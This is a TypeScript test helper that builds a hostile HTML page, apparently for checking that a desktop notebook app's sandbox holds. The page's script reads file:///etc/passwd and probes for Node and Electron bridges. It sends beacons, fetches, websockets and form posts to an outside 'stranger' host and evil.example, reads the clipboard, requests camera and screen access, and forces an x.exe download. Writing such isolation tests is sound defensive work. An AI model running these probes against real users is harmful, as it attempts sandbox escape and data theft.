/** A page that tries every way out of its window, and tells what came of each. */

/** @param stranger A server that should never hear of it. */
export function hostilePage(stranger: string): string {
  return `<!doctype html><html lang="vi"><meta charset="utf-8"><title>Sổ Chuyên Đề</title>
<p><label>Tiêu đề <input name="tieude"></label></p><p><label>Nội dung <textarea name="noidung"></textarea></label></p>
<script>
window.tried = {};
const nothing = (came) => (came === null || came === undefined || came === false ? 'nothing' : String(came));
const attempt = async (name, act) => {
  try {
    const late = new Promise((resolve) => setTimeout(resolve, 1500));
    window.tried[name] = nothing(await Promise.race([act(), late]));
  } catch { window.tried[name] = 'nothing'; }
};
const frame = (src) => new Promise((resolve) => {
  const inside = document.createElement('iframe');
  inside.src = src;
  inside.onload = () => { try { resolve(inside.contentDocument?.body?.innerText || null); } catch { resolve(null); } };
  document.body.append(inside);
});
const download = (href) => { const link = document.createElement('a'); link.href = href; link.download = 'x.exe'; document.body.append(link); link.click(); };
(async () => {
  for (const address of ['${stranger}/mo', 'file:///etc/passwd', 'app://so-chuyen-de/', 'about:blank', 'data:text/html,x', 'javascript:1', 'https://evil.example/'])
    await attempt('open ' + address, async () => window.open(address));
  await attempt('bridge', async () => window.scd ?? window.require ?? window.process ?? window.electron ?? window.module);
  await attempt('opener', async () => window.opener);
  await attempt('parent', async () => (window.parent === window && window.top === window ? null : 'another'));
  await attempt('message', async () => { for (const there of [window.parent, window.top]) there.postMessage({ id: 1, channel: 'cell:get', input: {} }, '*'); });
  await attempt('fetch app', async () => (await fetch('app://so-chuyen-de/')).status);
  await attempt('fetch file', async () => (await fetch('file:///etc/passwd')).status);
  await attempt('fetch stranger', async () => (await fetch('${stranger}/lay', { mode: 'no-cors' })).type);
  await attempt('beacon', async () => { navigator.sendBeacon('${stranger}/beo', 'x'); });
  await attempt('socket', () => new Promise((resolve) => { const line = new WebSocket('${stranger}'.replace('http', 'ws')); line.onopen = () => resolve('open'); line.onerror = () => resolve(null); }));
  await attempt('frame app', () => frame('app://so-chuyen-de/'));
  await attempt('frame file', () => frame('file:///etc/passwd'));
  await attempt('frame stranger', () => frame('${stranger}/khung'));
  await attempt('webview', async () => { const view = document.createElement('webview'); view.src = 'file:///etc/passwd'; document.body.append(view); return view.getWebContentsId; });
  await attempt('notify', async () => ((await Notification.requestPermission()) === 'granted' ? 'granted' : null));
  await attempt('place', () => new Promise((resolve) => navigator.geolocation.getCurrentPosition(() => resolve('place'), () => resolve(null))));
  await attempt('clipboard', () => navigator.clipboard.readText());
  await attempt('camera', () => navigator.mediaDevices.getUserMedia({ video: true, audio: true }));
  await attempt('screen', () => navigator.mediaDevices.getDisplayMedia());
  await attempt('usb', () => navigator.usb.requestDevice({ filters: [] }));
  await attempt('full screen', async () => { await document.documentElement.requestFullscreen(); return 'full'; });
  await attempt('download', async () => { download('data:application/octet-stream,x'); download('${stranger}/tai'); });
  await attempt('go file', async () => { location.href = 'file:///etc/passwd'; });
  await attempt('go app', async () => { location.href = 'app://so-chuyen-de/'; });
  await attempt('go scheme', async () => { location.href = 'mailto:x@evil.example'; });
  await attempt('go stranger', async () => { location.href = '${stranger}/di'; });
  await attempt('send form', async () => { const form = document.createElement('form'); form.action = '${stranger}/gui'; form.method = 'post'; document.body.append(form); form.submit(); });
  window.isDone = true;
})();
</script>`;
}
